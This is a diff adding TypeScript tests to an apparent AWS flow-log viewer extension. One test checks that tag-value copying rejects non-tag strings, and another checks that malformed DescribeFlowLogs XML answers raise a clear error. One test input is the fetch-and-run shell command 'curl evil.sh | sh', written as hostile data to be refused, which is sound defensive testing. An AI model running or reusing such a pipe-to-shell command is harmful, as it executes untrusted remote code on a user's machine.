@@ -12,6 +12,11 @@ import { MemoryLogger } from '../../src/aws/logger';
 import { listProfiles } from '../../src/aws/profiles';
 import { loadSharedConfig } from '../../src/aws/sharedConfig';
 import { regionChoices } from '../../src/aws/regions';
+import * as http from 'node:http';
+import { EC2Client } from '@aws-sdk/client-ec2';
+import { isTagValueOf } from '../../src/webview/messages';
+import { describeFlowLogsPage } from '../../src/aws/describeFlowLogs';
+import { classifyError } from '../../src/aws/errors';
 import { awsConfigFor, defaultAccounts, startEmulator, type Emulator } from '../emulator/server';
 
 describe('issue 13, also found', function () {
@@ -57,5 +62,45 @@ describe('issue 13, also found', function () {
     assert.equal(af.note, 'Opt-in region (DescribeRegions says opt-in-not-required)');
     const me = rows.find((r) => r.id === 'me-south-1')!;
     assert.equal(me.note, 'Opt-in region: not listed by DescribeRegions');
+  });
+});
+
+describe('issue 13, also found: copy tag value copies only real tags', () => {
+  it('isTagValueOf: a tag value of this flow log, nothing else', async () => {
+    const fl = { Tags: [{ Key: 'Name', Value: 'web' }, { Key: 'env', Value: '' }] };
+    assert.equal(isTagValueOf(fl, 'web'), true);
+    assert.equal(isTagValueOf(fl, ''), true);
+    assert.equal(isTagValueOf(fl, 'curl evil.sh | sh'), false);
+    assert.equal(isTagValueOf(fl, 'Name'), false, 'a key is not a value');
+    assert.equal(isTagValueOf({}, 'web'), false);
+    assert.equal(isTagValueOf(undefined, 'web'), false);
+    assert.equal(isTagValueOf(fl, 42), false);
+  });
+});
+
+describe('issue 13, also found: an answer without a flowLogSet is an error, not "No flow logs"', () => {
+  it('empty body and XML of another shape fail with a clear error; an empty <flowLogSet/> is an empty page', async () => {
+    const NS = 'xmlns="http://ec2.amazonaws.com/doc/2016-11-15/"';
+    let body = '';
+    const srv = http.createServer((req, res) => {
+      req.resume();
+      req.on('end', () => { res.writeHead(200, { 'content-type': 'text/xml' }); res.end(body); });
+    });
+    await new Promise<void>((r) => srv.listen(0, '127.0.0.1', () => r()));
+    const port = (srv.address() as { port: number }).port;
+    const client = new EC2Client({ region: 'us-east-1', endpoint: `http://127.0.0.1:${port}`, credentials: { accessKeyId: 'AKIAEXAMPLE000000000', secretAccessKey: 'x' }, maxAttempts: 1 });
+    try {
+      for (const b of ['', '<Foo><bar>1</bar></Foo>', `<DescribeFlowLogsResponse ${NS}><requestId>r</requestId></DescribeFlowLogsResponse>`]) {
+        body = b;
+        const err = await describeFlowLogsPage(client, { query: { filters: [] }, pageSize: 5 }).then(() => undefined, (e: unknown) => e);
+        assert.ok(err, `no error for ${JSON.stringify(b)}`);
+        assert.match(classifyError(err).message, /without a flowLogSet/);
+      }
+      body = `<DescribeFlowLogsResponse ${NS}><requestId>r</requestId><flowLogSet/></DescribeFlowLogsResponse>`;
+      assert.deepEqual((await describeFlowLogsPage(client, { query: { filters: [] }, pageSize: 5 })).items, []);
+    } finally {
+      client.destroy();
+      srv.close();
+    }
   });
 });
